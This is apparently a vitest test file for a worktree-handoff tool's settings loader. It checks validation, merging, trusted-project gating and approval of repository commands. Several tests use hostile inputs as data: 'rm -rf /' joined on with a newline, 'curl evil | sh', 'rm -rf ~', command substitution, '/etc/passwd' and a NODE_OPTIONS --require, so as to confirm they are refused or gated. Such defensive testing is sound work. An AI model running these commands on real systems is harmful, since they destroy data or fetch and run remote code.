/**
 * The settings files: strict validation with one-sentence errors that name the file and the key,
 * the repository's file only in a trusted project (else a notice), repository over user key by key,
 * and the worktree location template (with PI_HANDOFF_WORKTREE_ROOT still winning).
 */
import { mkdirSync, realpathSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { findCheckoutTop, loadHandoffConfig } from "../../src/config/load.ts";
import {
  applyBranchPrefix,
  checkPortPlaceholders,
  fillPortPlaceholders,
  mergeConfig,
  parseConfig,
} from "../../src/config/schema.ts";
import { chooseWorktreePath, expandWorktreeTemplate } from "../../src/handoff/worktree-path.ts";
import { makeTempDir, removeTempDir } from "../support/git-repo.ts";
import {
  approvalOptions,
  approvalsFile,
  approvePostCreate,
  approvedCheck,
  isPostCreateApproved,
  settingsForHandoff,
} from "../../src/config/post-create-approval.ts";

const FILE = "/r/.pi/handoff-worktree.json";

describe("parseConfig", () => {
  it("accepts every key and normalises a single postCreate command to a list", () => {
    expect(
      parseConfig(
        {
          $schema: "x",
          worktreeDir: "~/wt/{repo}/{branch}",
          branchPrefix: "pi/",
          copy: [".env*", "config/*.local.json"],
          symlink: ["node_modules"],
          postCreate: "npm ci",
          mux: "herdr",
          reportsTriggerTurn: true,
        },
        FILE,
      ),
    ).toEqual({
      ok: true,
      config: {
        worktreeDir: "~/wt/{repo}/{branch}",
        branchPrefix: "pi/",
        copy: [".env*", "config/*.local.json"],
        symlink: ["node_modules"],
        postCreate: ["npm ci"],
        mux: "herdr",
        reportsTriggerTurn: true,
      },
    });
  });

  it.each([
    [
      { worktreeDirr: "x" },
      `Unknown key "worktreeDirr" in ${FILE}; the keys are worktreeDir, branchPrefix, copy, symlink, postCreate, mux, reportsTriggerTurn, ports, env, check, checkTimeoutMs.`,
    ],
    [{ copy: ".env" }, `"copy" in ${FILE} must be a list of glob patterns (strings).`],
    [{ mux: "screen" }, `"mux" in ${FILE} must be "tmux", "herdr" or "zellij".`],
    [{ reportsTriggerTurn: "yes" }, `"reportsTriggerTurn" in ${FILE} must be true or false.`],
    [{ postCreate: [1] }, `"postCreate" in ${FILE} must be a shell command or a list of shell commands (strings).`],
    [
      { worktreeDir: "/wt/{repo}" },
      `"worktreeDir" in ${FILE} must contain {branch}, so each handoff gets its own directory.`,
    ],
    [
      { worktreeDir: "/wt/{user}/{branch}" },
      `"worktreeDir" in ${FILE} uses {user}; the placeholders are {repo}, {repoParent}, {branch}.`,
    ],
    [{ worktreeDir: "/wt/{branch" }, `"worktreeDir" in ${FILE} has an unmatched { or }.`],
    [{ worktreeDir: "/wt/{branch}}" }, `"worktreeDir" in ${FILE} has an unmatched { or }.`],
    [{ copy: ["../secrets"] }, `"copy" in ${FILE} has "../secrets", which leaves the checkout (".." is not allowed).`],
    [{ symlink: ["/etc/passwd"] }, `"symlink" in ${FILE} has "/etc/passwd", which is not relative to the checkout.`],
    [{ copy: [".git/config"] }, `"copy" in ${FILE} has ".git/config", which names git's own directory.`],
    [
      { postCreate: ["npm ci\nrm -rf /"] },
      `"postCreate" in ${FILE} has "npm ci\\nrm -rf /", which contains a newline or another control character; join the lines with && or ;.`,
    ],
    [{ postCreate: ["  "] }, `"postCreate" in ${FILE} has an empty command.`],
    [{ branchPrefix: "my prefix/" }, `"branchPrefix" in ${FILE} must not contain spaces or control characters.`],
    [
      { check: 7 },
      `"check" in ${FILE} must be a shell command (a string, like "npm test") or an argument list (strings, like ["npm", "test"]).`,
    ],
    [{ check: [] }, `"check" in ${FILE} names no command.`],
    [{ check: " " }, `"check" in ${FILE} names no command.`],
    [
      { check: "npm test\nrm -rf /" },
      `"check" in ${FILE} has "npm test\\nrm -rf /", which contains a newline or another control character; join the lines with && or ;.`,
    ],
    [
      { checkTimeoutMs: 5 },
      `"checkTimeoutMs" in ${FILE} must be a whole number of milliseconds from 1000 to 86400000, not 5.`,
    ],
    [[1, 2], `${FILE} must hold one JSON object (like {"branchPrefix": "pi/"}).`],
  ])("refuses %j with one sentence naming the file and key", (value, message) => {
    expect(parseConfig(value, FILE)).toEqual({ ok: false, message });
  });
});

describe("ports and env", () => {
  it("takes a count alone (the default range) or with a range, and the variables as written", () => {
    expect(parseConfig({ ports: 2 }, FILE)).toEqual({
      ok: true,
      config: { ports: { count: 2, range: [20000, 29999] } },
    });
    expect(parseConfig({ ports: { count: 3, range: [4100, 4102] } }, FILE)).toEqual({
      ok: true,
      config: { ports: { count: 3, range: [4100, 4102] } },
    });
    // `0` is kept: a repository's `"ports": 0` turns off the user's ports when merged over them.
    expect(parseConfig({ ports: 0 }, FILE)).toEqual({
      ok: true,
      config: { ports: { count: 0, range: [20000, 29999] } },
    });
    const hostile = `it's "$(touch x)" \`id\` $HOME \\ $$ \${PORT_2}:\${PORTS}`;
    expect(parseConfig({ env: { DATABASE_URL: "postgres://localhost:${PORT}/app", _X1: hostile } }, FILE)).toEqual({
      ok: true,
      config: { env: { DATABASE_URL: "postgres://localhost:${PORT}/app", _X1: hostile } },
    });
  });

  it.each([
    [
      { ports: "2" },
      `"ports" in ${FILE} must be a number of ports, or {"count": <number>, "range": [<first>, <last>]}.`,
    ],
    [
      { ports: { count: 2, rang: [4000, 4010] } },
      `"ports" in ${FILE} has the unknown key "rang"; it must be a number of ports, or {"count": <number>, "range": [<first>, <last>]}.`,
    ],
    [{ ports: 17 }, `"ports" in ${FILE} must reserve a whole number of ports from 0 to 16, not 17.`],
    [{ ports: -1 }, `"ports" in ${FILE} must reserve a whole number of ports from 0 to 16, not -1.`],
    [{ ports: 1.5 }, `"ports" in ${FILE} must reserve a whole number of ports from 0 to 16, not 1.5.`],
    [
      { ports: { count: 1, range: [80, 90] } },
      `"ports" in ${FILE} has the range [80, 90]; ports are whole numbers from 1024 to 65535 (lower ones need root).`,
    ],
    [
      { ports: { count: 1, range: [5000, 70000] } },
      `"ports" in ${FILE} has the range [5000, 70000]; ports are whole numbers from 1024 to 65535 (lower ones need root).`,
    ],
    [
      { ports: { count: 1, range: [5001, 5000] } },
      `"ports" in ${FILE} has the range [5001, 5000], whose first port is above its last.`,
    ],
    [
      { ports: { count: 3, range: [5000, 5001] } },
      `"ports" in ${FILE} has the range [5000, 5001], too small for 3 ports.`,
    ],
    [
      { env: { A: 1 } },
      `"env" in ${FILE} must be an object of variables and their values (strings), like {"DATABASE_URL": "postgres://localhost:\${PORT}/app"}.`,
    ],
    [
      { env: { "1A": "x" } },
      `"env" in ${FILE} has "1A", which is not a variable name (letters, digits and _, not starting with a digit).`,
    ],
    [
      { env: { "A-B": "x" } },
      `"env" in ${FILE} has "A-B", which is not a variable name (letters, digits and _, not starting with a digit).`,
    ],
    [{ env: { PI_HANDOFF_PORT: "1" } }, `"env" in ${FILE} sets PI_HANDOFF_PORT, which the handoff sets itself.`],
    [
      { env: { PI_CODING_AGENT_DIR: "/x" } },
      `"env" in ${FILE} sets PI_CODING_AGENT_DIR, which the handoff sets itself.`,
    ],
    [
      { env: { A: "a\nb" } },
      `"env" in ${FILE} sets A to "a\\nb", which contains a newline or another control character.`,
    ],
    [
      { env: { A: "a\u0000b" } },
      `"env" in ${FILE} sets A to "a\\u0000b", which contains a newline or another control character.`,
    ],
    [
      { env: { A: "${HOME}/x" } },
      `"env" in ${FILE} sets A with \${HOME}; the placeholders are \${PORT} (the first port), \${PORT_1}, \${PORT_2} and so on (each port), and \${PORTS} (all, comma-separated).`,
    ],
    [
      { env: { A: "x${PORT_2" } },
      `"env" in ${FILE} sets A with \${PORT_2; the placeholders are \${PORT} (the first port), \${PORT_1}, \${PORT_2} and so on (each port), and \${PORTS} (all, comma-separated).`,
    ],
  ])("refuses %j in one sentence naming the key", (value, message) => {
    expect(parseConfig(value, FILE)).toEqual({ ok: false, message });
  });

  it("checks the merged settings' placeholders against the ports reserved, and fills them in", () => {
    const env = { URL: "http://localhost:${PORT}/", ALL: "${PORTS}", DB: "db:${PORT_2}" };
    expect(checkPortPlaceholders({ ports: { count: 2, range: [4000, 4100] }, env })).toBeUndefined();
    expect(checkPortPlaceholders({ ports: { count: 1, range: [4000, 4100] }, env })).toBe(
      'sets DB with ${PORT_2}, but "ports" reserves only 1',
    );
    expect(checkPortPlaceholders({ env: { URL: env.URL } })).toBe('sets URL with ${PORT}, but "ports" reserves none');
    expect(checkPortPlaceholders({ ports: { count: 0, range: [4000, 4100] }, env: { ALL: "${PORTS}" } })).toBe(
      'sets ALL with ${PORTS}, but "ports" reserves none',
    );
    expect(Object.values(env).map((value) => fillPortPlaceholders(value, [4001, 4007]))).toEqual([
      "http://localhost:4001/",
      "4001,4007",
      "db:4007",
    ]);
    // Only the placeholders: everything else stays byte for byte.
    expect(fillPortPlaceholders("$(x) '$' ${PORT}$$", [5000])).toBe("$(x) '$' 5000$$");
  });
});

describe("merging and the branch prefix", () => {
  it("lets the repository override the user key by key, lists replaced whole", () => {
    expect(
      mergeConfig({ branchPrefix: "me/", copy: [".env"], mux: "tmux" }, { copy: [".env.local"], postCreate: ["make"] }),
    ).toEqual({
      branchPrefix: "me/",
      copy: [".env.local"],
      mux: "tmux",
      postCreate: ["make"],
    });
  });

  it("puts the prefix in front once", () => {
    expect(applyBranchPrefix("login", "pi/")).toBe("pi/login");
    expect(applyBranchPrefix("pi/login", "pi/")).toBe("pi/login");
    expect(applyBranchPrefix("login", undefined)).toBe("login");
  });
});

describe("loadHandoffConfig", () => {
  let dir: string;
  let agentDir: string;
  let repo: string;
  let repoFile: string;
  let userFile: string;

  beforeEach(() => {
    dir = makeTempDir("phw-config-");
    agentDir = join(dir, "agent");
    repo = join(dir, "repo");
    mkdirSync(agentDir, { recursive: true });
    mkdirSync(join(repo, ".git"), { recursive: true });
    mkdirSync(join(repo, ".pi"), { recursive: true });
    mkdirSync(join(repo, "src", "deep"), { recursive: true });
    repoFile = join(repo, ".pi", "handoff-worktree.json");
    userFile = join(agentDir, "handoff-worktree.json");
  });
  afterEach(() => removeTempDir(dir));

  it("reads nothing when there are no files", async () => {
    expect(await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: true })).toEqual({
      ok: true,
      config: {},
      files: [],
      notices: [],
    });
  });

  it("merges the repository's file (found from a subdirectory) over the user's in a trusted project", async () => {
    writeFileSync(userFile, JSON.stringify({ branchPrefix: "me/", mux: "tmux", copy: [".env"] }));
    writeFileSync(repoFile, JSON.stringify({ copy: [".env.local"], postCreate: ["make setup"] }));
    expect(await loadHandoffConfig({ cwd: join(repo, "src", "deep"), agentDir, projectTrusted: true })).toEqual({
      ok: true,
      config: { branchPrefix: "me/", mux: "tmux", copy: [".env.local"], postCreate: ["make setup"] },
      files: [userFile, repoFile],
      notices: [],
      // The repository's own commands are named, so the adapter can ask before they run.
      repoNeedsApproval: { file: repoFile, commands: ["make setup"] },
    });
  });

  it("names no repository commands when the postCreate in force is the user's own", async () => {
    writeFileSync(userFile, JSON.stringify({ postCreate: ["make mine"] }));
    writeFileSync(repoFile, JSON.stringify({ copy: [".env.local"] }));
    const loaded = await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: true });
    expect(loaded).toMatchObject({ ok: true, config: { postCreate: ["make mine"] } });
    expect(loaded.ok && loaded.repoNeedsApproval).toBeUndefined();
  });

  it("ignores the repository's file in an untrusted project, with a one-line notice, and keeps the user's", async () => {
    writeFileSync(userFile, JSON.stringify({ branchPrefix: "me/" }));
    writeFileSync(repoFile, JSON.stringify({ postCreate: ["curl evil | sh"] }));
    const loaded = await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: false });
    expect(loaded).toEqual({
      ok: true,
      config: { branchPrefix: "me/" },
      files: [userFile],
      notices: [
        `Ignored ${repoFile}: this project is not trusted in Pi, so its handoff settings (which can run commands) are not used.`,
      ],
    });
    if (loaded.ok) expect(loaded.notices[0]).not.toContain("\n");
  });

  it("does not even read an untrusted project's file: an invalid one is ignored too", async () => {
    writeFileSync(repoFile, "{ not json");
    expect(await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: false })).toMatchObject({
      ok: true,
      config: {},
    });
  });

  it("refuses an unknown key in either file, naming the file and the key", async () => {
    writeFileSync(repoFile, JSON.stringify({ branchPrefx: "pi/" }));
    expect(await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: true })).toEqual({
      ok: false,
      message: `Unknown key "branchPrefx" in ${repoFile}; the keys are worktreeDir, branchPrefix, copy, symlink, postCreate, mux, reportsTriggerTurn, ports, env, check, checkTimeoutMs.`,
    });
    writeFileSync(userFile, JSON.stringify({ hooks: [] }));
    expect(await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: false })).toEqual({
      ok: false,
      message: `Unknown key "hooks" in ${userFile}; the keys are worktreeDir, branchPrefix, copy, symlink, postCreate, mux, reportsTriggerTurn, ports, env, check, checkTimeoutMs.`,
    });
  });

  it("refuses an env naming a port the merged settings do not reserve, naming the env's file", async () => {
    writeFileSync(userFile, JSON.stringify({ ports: 1 }));
    writeFileSync(repoFile, JSON.stringify({ env: { DB: "db:${PORT_2}" } }));
    expect(await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: true })).toEqual({
      ok: false,
      message: `"env" in ${repoFile} sets DB with \${PORT_2}, but "ports" reserves only 1.`,
    });
    // The ports from one file, the variables from the other: together they hold.
    writeFileSync(userFile, JSON.stringify({ ports: { count: 2, range: [4000, 4010] } }));
    expect(await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: true })).toEqual({
      ok: true,
      config: { ports: { count: 2, range: [4000, 4010] }, env: { DB: "db:${PORT_2}" } },
      files: [userFile, repoFile],
      notices: [],
      // The repository's variables need approval, as its commands do (NODE_OPTIONS runs code).
      repoNeedsApproval: { file: repoFile, commands: [], env: { DB: "db:${PORT_2}" } },
    });
  });

  it("refuses a file that is not JSON", async () => {
    writeFileSync(userFile, "{ branchPrefix: 'x' }");
    const loaded = await loadHandoffConfig({ cwd: repo, agentDir, projectTrusted: true });
    expect(loaded.ok).toBe(false);
    if (!loaded.ok)
      expect(loaded.message).toMatch(
        new RegExp(
          `^${userFile.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")} is not valid JSON \\(.+\\); fix it or remove it\\.$`,
        ),
      );
  });

  it("finds the checkout top through a .git file (a linked worktree) and none outside", () => {
    const linked = join(dir, "linked");
    mkdirSync(join(linked, "a"), { recursive: true });
    writeFileSync(join(linked, ".git"), "gitdir: /somewhere\n");
    expect(findCheckoutTop(join(linked, "a"))).toBe(linked);
    expect(findCheckoutTop(agentDir)).toBeUndefined();
  });
});

describe("worktree location", () => {
  let dir: string;
  beforeEach(() => {
    dir = realpathSync(makeTempDir("phw-wtpath-"));
    mkdirSync(join(dir, "code", "app"), { recursive: true });
  });
  afterEach(() => removeTempDir(dir));

  it("fills in the placeholders, expands ~ and resolves a relative template from the main checkout", () => {
    const main = join(dir, "code", "app");
    expect(
      expandWorktreeTemplate("{repoParent}/{repo}.wt/{branch}", {
        mainCheckout: main,
        branch: "Feat/Login_Form",
        home: "/h",
      }),
    ).toBe(join(dir, "code", "app.wt", "feat-login-form"));
    expect(expandWorktreeTemplate("~/worktrees/{repo}/{branch}", { mainCheckout: main, branch: "x", home: "/h" })).toBe(
      "/h/worktrees/app/x",
    );
    expect(expandWorktreeTemplate("../trees/{branch}", { mainCheckout: main, branch: "x", home: "/h" })).toBe(
      join(dir, "code", "trees", "x"),
    );
  });

  it("keeps today's default, uses the template, and lets PI_HANDOFF_WORKTREE_ROOT win over it", () => {
    const main = join(dir, "code", "app");
    expect(chooseWorktreePath({ mainCheckout: main, branch: "feat/a", env: {} })).toBe(
      join(dir, "code", "app.worktrees", "feat-a"),
    );
    expect(
      chooseWorktreePath({ mainCheckout: main, branch: "feat/a", env: {}, template: `${dir}/t/{repo}-{branch}` }),
    ).toBe(join(dir, "t", "app-feat-a"));
    expect(
      chooseWorktreePath({
        mainCheckout: main,
        branch: "feat/a",
        env: { PI_HANDOFF_WORKTREE_ROOT: join(dir, "root") },
        template: `${dir}/t/{branch}`,
      }),
    ).toBe(join(dir, "root", "app", "feat-a"));
  });

  it("never picks an existing path and refuses one inside .git", () => {
    const main = join(dir, "code", "app");
    mkdirSync(join(dir, "t", "x"), { recursive: true });
    expect(chooseWorktreePath({ mainCheckout: main, branch: "x", env: {}, template: `${dir}/t/{branch}` })).toBe(
      join(dir, "t", "x-2"),
    );
    expect(() =>
      chooseWorktreePath({ mainCheckout: main, branch: "x", env: {}, template: "{repoParent}/{repo}/.git/{branch}" }),
    ).toThrow(
      `The worktree path ${join(main, ".git", "x")} is inside the repository's .git directory; choose another worktreeDir.`,
    );
  });
});

describe("approving a repository's postCreate commands", () => {
  let dir: string;
  afterEach(() => removeTempDir(dir));

  it("approves exactly the commands given, per settings file, and survives a corrupt record", async () => {
    dir = makeTempDir("phw-approval-");
    const agentDir = join(dir, "agent");
    const file = join(dir, "repo", ".pi", "handoff-worktree.json");
    expect(await isPostCreateApproved(agentDir, file, ["make"])).toBe(false);
    await approvePostCreate(agentDir, file, ["make"]);
    expect(await isPostCreateApproved(agentDir, file, ["make"])).toBe(true);
    expect(await isPostCreateApproved(agentDir, file, ["make", "rm -rf ~"])).toBe(false);
    expect(await isPostCreateApproved(agentDir, join(dir, "other.json"), ["make"])).toBe(false);
    writeFileSync(approvalsFile(agentDir), "{ not json");
    expect(await isPostCreateApproved(agentDir, file, ["make"])).toBe(false);
  });

  it("covers the repository's check too: an approval without it (or with another) does not approve it", async () => {
    dir = makeTempDir("phw-approval-");
    const agentDir = join(dir, "agent");
    const file = join(dir, "repo", ".pi", "handoff-worktree.json");
    await approvePostCreate(agentDir, file, ["make"]);
    expect(await isPostCreateApproved(agentDir, file, ["make"], undefined, ["sh", "check.sh"])).toBe(false);
    await approvePostCreate(agentDir, file, ["make"], new Date(), undefined, ["sh", "check.sh"]);
    expect(await isPostCreateApproved(agentDir, file, ["make"], undefined, ["sh", "check.sh"])).toBe(true);
    expect(await isPostCreateApproved(agentDir, file, ["make"], undefined, "sh check.sh")).toBe(false);
    expect(await isPostCreateApproved(agentDir, file, ["make"])).toBe(false);
    const repoCode = { file, commands: ["make"], check: ["sh", "check.sh"] };
    const config = { check: ["sh", "check.sh"] };
    expect(await approvedCheck({ agentDir, config, repoNeedsApproval: repoCode, approvedByFlag: false })).toEqual({
      ok: true,
      check: ["sh", "check.sh"],
    });
    const other = { ...repoCode, check: ["sh", "other.sh"] };
    expect(
      await approvedCheck({
        agentDir,
        config: { check: other.check },
        repoNeedsApproval: other,
        approvedByFlag: false,
      }),
    ).toEqual({
      ok: false,
      message: `The check in ${file} (["sh","other.sh"]) has not been approved yet; review it and add --approve-repo-code, or approve the repository's code once in Pi's TUI; nothing was landed.`,
    });
    expect(
      await approvedCheck({ agentDir, config: { check: other.check }, repoNeedsApproval: other, approvedByFlag: true }),
    ).toEqual({ ok: true, check: ["sh", "other.sh"] });
    expect(await isPostCreateApproved(agentDir, file, ["make"], undefined, ["sh", "other.sh"])).toBe(true);
    // The user's own check needs no approval.
    expect(
      await approvedCheck({
        agentDir,
        config: { check: "make test" },
        repoNeedsApproval: undefined,
        approvedByFlag: false,
      }),
    ).toEqual({ ok: true, check: "make test" });
  });

  it("covers the repository's env variables too: each exact set needs its own approval", async () => {
    dir = makeTempDir("phw-approval-");
    const agentDir = join(dir, "agent");
    const file = join(dir, "repo", ".pi", "handoff-worktree.json");
    const env = { NODE_OPTIONS: "--require ./x.js" };
    await approvePostCreate(agentDir, file, ["make"]);
    // Approved without the variables is not approved with them.
    expect(await isPostCreateApproved(agentDir, file, ["make"], env)).toBe(false);
    await approvePostCreate(agentDir, file, [], new Date(), env);
    expect(await isPostCreateApproved(agentDir, file, [], env)).toBe(true);
    expect(await isPostCreateApproved(agentDir, file, [], { NODE_OPTIONS: "--require ./y.js" })).toBe(false);
    expect(await isPostCreateApproved(agentDir, file, [])).toBe(false);
  });

  it("asks before a repository's check is approved, alone in its file, and remembers the yes", async () => {
    dir = makeTempDir("phw-approval-");
    const agentDir = join(dir, "agent");
    const repo = join(dir, "repo");
    mkdirSync(join(repo, ".git"), { recursive: true });
    mkdirSync(join(repo, ".pi"), { recursive: true });
    const file = join(repo, ".pi", "handoff-worktree.json");
    writeFileSync(file, JSON.stringify({ check: ["npm", "test"] }));
    const asked: string[] = [];
    const settle = (answer: boolean, hasUI = true) =>
      settingsForHandoff({
        cwd: repo,
        agentDir,
        projectTrusted: true,
        approvedByFlag: false,
        notify: () => {},
        prompt: {
          hasUI,
          choose: async (title, options) => {
            asked.push(title);
            return answer ? options[1] : options[0];
          },
        },
      });
    expect(await settle(false, false)).toEqual({
      ok: false,
      message: `The check settings in ${file} have not been approved yet; review them and add --approve-repo-code, or run the handoff once in Pi's TUI.`,
    });
    expect(await settle(true)).toEqual({ ok: true, config: { check: ["npm", "test"] } });
    expect(asked).toEqual([
      `Run this repository's check before each landing?\n${file} asks to run before each landing (pi-handoff land --all): ["npm","test"]`,
    ]);
    expect(await isPostCreateApproved(agentDir, file, [], undefined, ["npm", "test"])).toBe(true);
  });

  it("asks before a repository's env is used, listing the variables, and refuses without a yes", async () => {
    dir = makeTempDir("phw-approval-");
    const agentDir = join(dir, "agent");
    const repo = join(dir, "repo");
    mkdirSync(join(repo, ".git"), { recursive: true });
    mkdirSync(join(repo, ".pi"), { recursive: true });
    const file = join(repo, ".pi", "handoff-worktree.json");
    writeFileSync(
      file,
      JSON.stringify({ ports: 1, env: { NODE_OPTIONS: "--require ./x.js", URL: "http://localhost:${PORT}" } }),
    );
    const asked: Array<[string, readonly string[]]> = [];
    const settle = (answer: boolean | undefined, hasUI = true) =>
      settingsForHandoff({
        cwd: repo,
        agentDir,
        projectTrusted: true,
        approvedByFlag: false,
        notify: () => {},
        prompt: {
          hasUI,
          choose: async (title, options) => {
            asked.push([title, options]);
            // Enter takes the first option; undefined is Escape.
            return answer === undefined ? undefined : answer ? options[1] : options[0];
          },
        },
      });
    expect(await settle(false, false)).toEqual({
      ok: false,
      message: `The env variables in ${file} have not been approved yet; review them and add --approve-repo-code, or run the handoff once in Pi's TUI.`,
    });
    expect(await settle(false)).toEqual({
      ok: false,
      message: `The handoff was not started: the env variables in ${file} were not approved.`,
    });
    expect(asked).toEqual([
      [
        `Use this repository's env variables?\n${file} asks to set, for everything run for the handoff (Pi included):\nNODE_OPTIONS=--require ./x.js\nURL=http://localhost:\${PORT}`,
        ["No, do not use them", "Yes, use them (remembered for this exact list)"],
      ],
    ]);
    expect(approvalOptions("postCreate commands and env variables")).toEqual([
      "No, do not run or use them",
      "Yes, run and use them (remembered for this exact list)",
    ]);
    expect(approvalOptions("postCreate commands")[1]).toBe("Yes, run them (remembered for this exact list)");
    // Escape refuses too.
    expect(await settle(undefined)).toMatchObject({ ok: false });
    expect(await settle(true)).toMatchObject({ ok: true, config: { env: { NODE_OPTIONS: "--require ./x.js" } } });
    // Remembered: asked no more.
    expect(await settle(false)).toMatchObject({ ok: true });
    expect(asked).toHaveLength(3);
  });
});
